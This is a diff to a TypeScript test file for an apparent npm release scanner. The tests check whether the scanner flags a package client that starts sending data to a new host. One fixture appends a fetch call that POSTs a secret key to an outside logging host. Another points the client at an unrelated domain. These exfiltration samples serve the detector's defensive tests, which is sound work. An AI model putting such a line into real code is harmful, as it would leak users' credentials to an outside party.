@@ -23,7 +23,7 @@ export async function request(method, path) {
 `;
 
 /** What a patch of a small server with these files in place of its own is told of, from `high` on. */
-function loud(files: Files, manifest: object = {}): readonly string[] {
+function loud(files: Files, manifest: object = {}, before: object = {}): readonly string[] {
   const profile = (version: string, more: Files, own: object): ReturnType<typeof profileOf> =>
     profileOf({
       'package.json': JSON.stringify({
@@ -38,7 +38,10 @@ function loud(files: Files, manifest: object = {}): readonly string[] {
       'client.js': client,
       ...more,
     });
-  const diff = diffProfiles(profile('1.0.0', {}, {}), profile('1.0.1', files, manifest));
+  const diff = diffProfiles(
+    profile('1.0.0', {}, before),
+    profile('1.0.1', files, { ...before, ...manifest }),
+  );
   return judgeRelease({ diff, subject: 'pkg:npm/acme-mcp@1.0.1', firstSight: false })
     .filter(({ severity }) => severity === 'high' || severity === 'critical')
     .map(({ severity, rule }) => `${severity} ${rule}`)
@@ -196,6 +199,33 @@ function withTool(code: string): readonly string[] {
 `;
   return loud({ 'index.js': server + tool }, { version: '1.1.0' });
 }
+
+describe('a service that moves to the domain of its vendor', () => {
+  const moved = client.replace('api.acme.dev', 'api.acme.com');
+  const home = { homepage: 'https://www.acme.com/docs' };
+
+  test('was named by the package before', () => {
+    expect(loud({ 'client.js': moved }, {}, home)).toEqual([]);
+  });
+
+  test.each([
+    ['only the new release names it', moved, home, {}],
+    [
+      'it is not called like the package',
+      client.replace('api.acme.dev', 'api.collected.io'),
+      {},
+      { homepage: 'https://collected.io' },
+    ],
+    [
+      'the host of before is told too',
+      `${client}await fetch('https://log.acme.com', { method: 'POST', body: key });`,
+      {},
+      home,
+    ],
+  ])('is told when %s', (_, code, now, before) => {
+    expect(loud({ 'client.js': code }, now, before)).toContain('high secret-sent');
+  });
+});
 
 describe('a bot that tells somebody', () => {
   test('has its token in the address', () => {
